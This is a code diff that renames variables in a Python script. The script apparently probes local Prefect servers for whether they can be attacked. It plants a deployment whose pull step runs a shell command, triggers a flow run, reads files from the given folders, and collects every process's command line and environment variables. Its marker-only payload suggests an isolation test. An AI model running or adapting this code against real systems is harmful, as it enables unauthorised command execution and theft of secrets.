@@ -32,9 +32,9 @@ _ = encodings.idna  # asked for by name when a host is looked up
 POOL = {"name": "strangers", "type": "process"}
 
 
-def main(asked: dict[str, Any]) -> dict[str, Any]:
-    worked = [attempt for port in asked["ports"] for attempt in attack(port, asked["marker"])]
-    read = {str(path): text for folder in asked["folders"] for path, text in readable(Path(folder))}
+def main(request: dict[str, Any]) -> dict[str, Any]:
+    worked = [attempt for port in request["ports"] for attempt in attack(port, request["marker"])]
+    read = {str(path): text for folder in request["folders"] for path, text in readable(Path(folder))}
     return {"user": os.getuid(), "worked": worked, "read": read, "commands": commands()}
 
 
@@ -62,12 +62,12 @@ def plant(port: int, marker: str) -> list[str]:
     if status >= 400:
         return []
     step = {"prefect.deployments.steps.run_shell_script": {"script": f"touch {marker}"}}
-    wanted = {
+    deployed = {
         "name": "stranger", "flow_id": flow["id"], "work_pool_name": "idxflow", "pull_steps": [step],
         "entrypoint": "flows.retrain.retrain",
     }  # fmt: skip
     ask(port, "POST", "/api/work_pools/", {"name": "idxflow", "type": "process"})
-    status, deployment = ask(port, "POST", "/api/deployments/", wanted)
+    status, deployment = ask(port, "POST", "/api/deployments/", deployed)
     if status >= 400:
         return ["a flow"]
     status, _ = ask(port, "POST", f"/api/deployments/{deployment['id']}/create_flow_run", {})
@@ -80,13 +80,13 @@ def ask(port: int, method: str, path: str, body: Any = None) -> tuple[int, Any]:
         data = None if body is None else json.dumps(body)
         connection.request(method, path, data, {"Content-Type": "application/json"} if data else {})
         answer = connection.getresponse()
-        said = answer.read()
+        content = answer.read()
     except (OSError, http.client.HTTPException):
         return 599, None
     finally:
         connection.close()
     try:
-        return answer.status, json.loads(said)
+        return answer.status, json.loads(content)
     except ValueError:
         return answer.status, None
 
@@ -126,26 +126,26 @@ def can_listen(port: int) -> bool:
 
 
 def readable(folder: Path) -> list[tuple[Path, str]]:
-    found = []
+    texts = []
     for place, _, names in os.walk(folder):
         for name in names:
             try:
-                found.append((Path(place, name), Path(place, name).read_bytes()[:100_000].decode("latin-1")))
+                texts.append((Path(place, name), Path(place, name).read_bytes()[:100_000].decode("latin-1")))
             except OSError:
                 continue
-    return found
+    return texts
 
 
 def commands() -> str:
     """The command lines, and what of environments can be read, of all processes."""
-    said = []
+    texts = []
     for process in Path("/proc").glob("[0-9]*"):
         for name in ("cmdline", "environ"):
             try:
-                said.append((process / name).read_bytes().replace(b"\0", b" ").decode("latin-1"))
+                texts.append((process / name).read_bytes().replace(b"\0", b" ").decode("latin-1"))
             except OSError:
                 continue
-    return "\n".join(said)
+    return "\n".join(texts)
 
 
 if __name__ == "__main__":
